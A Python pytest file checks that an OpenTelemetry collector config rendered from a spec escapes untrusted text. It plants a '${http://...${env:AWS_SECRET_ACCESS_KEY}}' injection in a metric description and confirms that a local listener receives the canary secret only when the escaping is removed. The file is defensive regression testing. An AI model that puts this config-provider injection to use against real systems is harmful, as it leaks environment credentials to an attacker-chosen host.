"""Attacks on the real programs: a spec from a stranger, and a page in somebody's browser."""

from __future__ import annotations

import http.server
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from imsobs.runtime.build.binaries import resolve_binary
from imsobs.runtime.trial import render_trial

ROOT = Path(__file__).resolve().parents[2]
SPEC = ROOT / "spec/ims.yaml"
pytestmark = pytest.mark.native


@contextmanager
def listener() -> Iterator[tuple[int, list[str]]]:
    """Yield a port and the paths that are asked for there."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"x")

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield server.server_address[1], asked
        finally:
            server.shutdown()
            thread.join()


def test_a_text_of_the_spec_sends_no_secret_anywhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canary")
    otelcol = resolve_binary("otelcol", ROOT)
    with listener() as (port, asked):
        text = f"${{http://127.0.0.1:{port}/${{env:AWS_SECRET_ACCESS_KEY}}}}"
        overlay = {"metrics": {"ims_requests_total": {"description": f"Requests. {text}"}}}
        project = render_trial(tmp_path / "project", SPEC, overlay)
        config = project / "collector/config.yaml"
        command = [str(otelcol), "validate", "--config", str(config)]
        # With the caller's whole environment: the escape alone must hold.
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        assert asked == []
        # The same text as a reference would have told it, so this test can fail.
        config.write_text(config.read_text().replace("$$", "$"))
        subprocess.run(command, capture_output=True, text=True, check=False)
        assert asked == ["/canary"]
